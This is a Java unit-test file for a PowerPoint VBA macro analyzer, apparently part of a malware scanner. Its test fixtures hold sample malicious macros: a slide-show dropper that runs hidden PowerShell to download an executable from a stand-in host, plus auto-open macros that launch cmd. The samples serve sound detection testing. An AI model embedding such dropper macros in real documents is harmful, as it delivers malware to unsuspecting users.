package org.peekaboo.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.peekaboo.office.testing.OfficeFiles.module;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.office.testing.PowerPointFiles;
import org.peekaboo.office.testing.PowerPointFiles.Le;
import org.peekaboo.ruleset.UndecidableDocumentException;

class PowerPointMacrosTest {
    private static final Map<String, String> SLIDE_SHOW_DROPPER = module("Module1",
            "Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)",
            "  Set sh = CreateObject(\"WScript.Shell\")",
            "  sh.Run \"powershell -w hidden -c iwr http://example.invalid/p -OutFile $env:TEMP\\p.exe\", 0",
            "End Sub");

    private final MacroAnalyzer analyzer = MacroAnalyzer.withDefaultLimits();

    @TempDir
    Path dir;

    @Test
    void theVbaProjectIsFoundThroughTheVbaInfoAtomAndReadLikeAWordOne() throws IOException {
        OleReport report = analyze(PowerPointFiles.ppt(SLIDE_SHOW_DROPPER));

        assertThat(report.hasOfficeMacros()).isTrue();
        assertThat(report.vbaCode()).contains("Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)",
                "WScript.Shell");
        assertThat(report.detectedAutoexec()).containsExactly(
                "OnSlideShowPageChange: Runs when a PowerPoint slide show starts or moves to another slide");
        assertThat(report.detectedSuspicious()).anyMatch(finding -> finding.startsWith("WScript.Shell: "));
    }

    @Test
    void storedUncompressedOrWithoutPointersTheProjectIsFoundAllTheSame() throws IOException {
        Map<String, String> autoOpen = module("Module1", "Sub Auto_Open()", "  Shell \"cmd /c calc\", 0", "End Sub");

        OleReport uncompressed = analyze(PowerPointFiles.builder().vba(autoOpen).uncompressed().build());
        OleReport sloppy = analyze(PowerPointFiles.builder().vba(autoOpen).withoutVbaInfo().build());

        assertThat(uncompressed.vbaCode()).contains("Sub Auto_Open()");
        assertThat(sloppy.vbaCode()).contains("Sub Auto_Open()");
        assertThat(sloppy.detectedAutoexec()).containsExactly(
                "Auto_Open: Runs when the Excel workbook or PowerPoint add-in is opened");
    }

    @Test
    void aBrokenCurrentUserPointerLeavesTheScan() throws IOException {
        byte[] ppt = PowerPointFiles.ppt(SLIDE_SHOW_DROPPER);
        byte[] stream = stream(ppt);
        // The Current User points into the middle of a record: PowerPoint's way is lost, the scan is not.
        byte[] broken = PowerPointFiles.ole2(stream, PowerPointFiles.currentUser(3, false));

        assertThat(analyze(broken).vbaCode()).contains("OnSlideShowPageChange");
        assertThat(analyze(PowerPointFiles.ole2(stream, null)).vbaCode()).contains("OnSlideShowPageChange");
    }

    @Test
    void aWordDocumentWithMacrosEmbeddedInASlideIsReported() throws IOException {
        byte[] doc = OfficeFiles.doc(module("ThisDocument", "Private Sub Document_Open()",
                "  Shell \"cmd /c start http://example.invalid/x\", 0", "End Sub"));

        OleReport report = analyze(PowerPointFiles.builder().embed(doc).build());

        assertThat(report.vbaCode()).contains("Private Sub Document_Open()");
        assertThat(report.detectedAutoexec()).containsExactly("Document_Open: Runs when the Word document is opened");
    }

    @Test
    void aPresentationWithoutVbaHasNoMacros() throws IOException {
        assertThat(analyze(PowerPointFiles.builder().build())).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(PowerPointFiles.builder().embed(OfficeFiles.doc(Map.of())).build()))
                .isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void aRecordRunningPastTheStreamIsUnreadable() throws IOException {
        byte[] stream = stream(PowerPointFiles.ppt(SLIDE_SHOW_DROPPER));
        byte[] truncated = Arrays.copyOf(stream, stream.length - 40);
        byte[] hugeLength = stream.clone();
        // The DocumentContainer claims 2 GiB.
        hugeLength[4] = 0;
        hugeLength[5] = 0;
        hugeLength[6] = 0;
        hugeLength[7] = (byte) 0x80;

        assertUnreadable(PowerPointFiles.ole2(truncated, null), "runs past the end");
        assertUnreadable(PowerPointFiles.ole2(hugeLength, null), "2147483648 bytes runs past the end");
        assertUnreadable(PowerPointFiles.ole2(Arrays.copyOf(stream, indexOfEnd(stream) + 5), null),
                "cut off");
    }

    @Test
    void slackAfterTheRecordsIsHarmlessWhileThePersistDirectoryLeadsToEveryObject() throws IOException {
        byte[] stream = stream(PowerPointFiles.ppt(SLIDE_SHOW_DROPPER));
        byte[] slack = Arrays.copyOf(stream, stream.length + 13);
        Arrays.fill(slack, stream.length, slack.length, (byte) 0x5A);
        byte[] zeros = Arrays.copyOf(stream, stream.length + 7);
        int lastEdit = stream.length - 36;

        assertThat(analyze(PowerPointFiles.ole2(slack, PowerPointFiles.currentUser(lastEdit, false))).vbaCode())
                .contains("OnSlideShowPageChange");
        assertThat(analyze(PowerPointFiles.ole2(zeros, null)).vbaCode()).contains("OnSlideShowPageChange");
        // Without the persist directory only the scan can tell, and it cannot walk past the slack.
        assertUnreadable(PowerPointFiles.ole2(slack, null), "runs past the end");
    }

    @Test
    void aFragmentedPresentationIsReadThroughEveryEdit() throws IOException {
        // A fast save: the first edit holds the document, the second only the VBA project, with
        // a persist directory of its own that the first does not know.
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        stream.writeBytes(PowerPointFiles.document(2));
        int firstDirectory = stream.size();
        stream.writeBytes(PowerPointFiles.record(0, 0, PowerPointFiles.RT_PERSIST_DIRECTORY_ATOM,
                new Le().u32(1L | 1L << 20).u32(0).bytes()));
        int firstEdit = stream.size();
        stream.writeBytes(PowerPointFiles.userEdit(0, firstDirectory, 2));
        int vba = stream.size();
        stream.writeBytes(PowerPointFiles.exOleObjStg(OfficeFiles.vbaProjectBin(SLIDE_SHOW_DROPPER), true));
        int secondDirectory = stream.size();
        stream.writeBytes(PowerPointFiles.record(0, 0, PowerPointFiles.RT_PERSIST_DIRECTORY_ATOM,
                new Le().u32(2L | 1L << 20).u32(vba).bytes()));
        int secondEdit = stream.size();
        stream.writeBytes(PowerPointFiles.userEdit(firstEdit, secondDirectory, 3));
        byte[] records = stream.toByteArray();

        byte[] compoundFile = storageOffsets(records, PowerPointFiles.currentUser(secondEdit, false));

        assertThat(compoundFile).isNotNull();
        assertThat(analyze(PowerPointFiles.ole2(records, PowerPointFiles.currentUser(secondEdit, false))).vbaCode())
                .contains("OnSlideShowPageChange");
    }

    @Test
    void anEditChainThatLoopsEndsAndTheScanDecides() throws IOException {
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        stream.writeBytes(PowerPointFiles.document(2));
        int vba = stream.size();
        stream.writeBytes(PowerPointFiles.exOleObjStg(OfficeFiles.vbaProjectBin(SLIDE_SHOW_DROPPER), true));
        int directory = stream.size();
        stream.writeBytes(PowerPointFiles.record(0, 0, PowerPointFiles.RT_PERSIST_DIRECTORY_ATOM,
                new Le().u32(1L | 2L << 20).u32(0).u32(vba).bytes()));
        int edit = stream.size();
        // The edit names itself as the previous one.
        stream.writeBytes(PowerPointFiles.userEdit(edit, directory, 3));

        byte[] ppt = PowerPointFiles.ole2(stream.toByteArray(), PowerPointFiles.currentUser(edit, false));

        assertThat(analyze(ppt).vbaCode()).contains("OnSlideShowPageChange");
    }

    @Test
    void tooManyEmbeddedObjectsAreRefused() throws IOException {
        byte[] doc = OfficeFiles.doc(Map.of());
        byte[] ppt = PowerPointFiles.builder().embed(doc).embed(doc).embed(doc).build();
        MacroLimits twoObjects = new MacroLimits(64L << 20, 32 << 20, 100, 2, 8 << 20, 32);
        Path file = write(ppt);

        assertThat(analyze(ppt)).isEqualTo(OleReport.NO_MACROS);
        assertThatThrownBy(() -> new MacroAnalyzer(twoObjects).analyze(file))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("exceed the limits");
    }

    @Test
    void aZlibBombIsRefusedBeforeItFillsMemory() throws IOException {
        byte[] zeros = new byte[48 << 20];
        System.arraycopy(OfficeFiles.vbaProjectBin(SLIDE_SHOW_DROPPER), 0, zeros, 0, 8);
        byte[] bomb = PowerPointFiles.builder().vbaStorage(zeros).build();

        // The default ratio stops it first; with the ratio out of the way the size limit does.
        assertUnreadable(bomb, "inflates more than 100 times");
        MacroLimits noRatio = new MacroLimits(64L << 20, 32 << 20, Integer.MAX_VALUE, 20_000, 8 << 20, 32);
        Path file = write(bomb);
        assertThatThrownBy(() -> new MacroAnalyzer(noRatio).analyze(file))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("inflates to more than 33554432");
    }

    @Test
    void corruptCompressedDataIsUnreadable() throws IOException {
        byte[] body = PowerPointFiles.compressed(OfficeFiles.vbaProjectBin(SLIDE_SHOW_DROPPER));
        byte[] cut = Arrays.copyOf(body, body.length / 2);
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        stream.writeBytes(PowerPointFiles.document(0));
        stream.writeBytes(PowerPointFiles.record(0, 1, PowerPointFiles.RT_EX_OLE_OBJ_STG, cut));

        assertUnreadable(PowerPointFiles.ole2(stream.toByteArray(), null), "compressed storage ends early");
    }

    @Test
    void presentationsNestedInPresentationsStopAtTheDepthLimit() throws IOException {
        byte[] ppt = PowerPointFiles.ppt(SLIDE_SHOW_DROPPER);
        for (int i = 0; i < 4; i++) {
            ppt = PowerPointFiles.builder().embed(ppt).build();
        }
        MacroLimits shallow = new MacroLimits(64L << 20, 32 << 20, 100, 20_000, 8 << 20, 3);
        Path file = write(ppt);

        assertThat(analyze(ppt).vbaCode()).contains("OnSlideShowPageChange");
        assertThatThrownBy(() -> new MacroAnalyzer(shallow).analyze(file))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("nested deeper than 3");
    }

    @Test
    void aPresentationMarkedEncryptedWithoutItsEncryptionHeaderIsUnreadable() throws IOException {
        // PowerPointHslfTest has presentations that are encrypted for real.
        assertUnreadable(PowerPointFiles.builder().vba(SLIDE_SHOW_DROPPER).encrypted().build(),
                "encrypted PowerPoint presentation without its encryption header");
    }

    /** The end of the first record (the DocumentContainer), so that a cut lands in the next header. */
    private static int indexOfEnd(byte[] stream) {
        return 8 + (int) ((stream[4] & 0xFFL) | (stream[5] & 0xFFL) << 8 | (stream[6] & 0xFFL) << 16
                | (stream[7] & 0xFFL) << 24);
    }

    private static byte[] storageOffsets(byte[] records, byte[] currentUser) throws IOException {
        byte[][] found = new byte[1][];
        new PowerPointStorages(MacroLimits.DEFAULT, new PowerPointStorages.Budget(MacroLimits.DEFAULT))
                .forEach(records, currentUser, "p.ppt", (label, compoundFile) -> {
                    assertThat(label).isEqualTo("p.ppt/VBA project");
                    found[0] = compoundFile;
                });
        return found[0];
    }

    private static byte[] stream(byte[] ppt) throws IOException {
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem(new java.io.ByteArrayInputStream(ppt))) {
            return fs.createDocumentInputStream("PowerPoint Document").readAllBytes();
        }
    }

    private void assertUnreadable(byte[] ppt, String message) throws IOException {
        Path file = write(ppt);
        assertThatThrownBy(() -> analyzer.analyze(file)).isInstanceOfSatisfying(OfficeDocumentException.class,
                e -> {
                    assertThat(e.kind()).isEqualTo(UndecidableDocumentException.Kind.UNREADABLE);
                    assertThat(e.getMessage()).contains(message);
                });
    }

    private OleReport analyze(byte[] content) throws IOException {
        return analyzer.analyze(write(content));
    }

    private Path write(byte[] content) throws IOException {
        Path file = Files.createTempFile(dir, "p", ".ppt");
        Files.write(file, content);
        return file;
    }
}
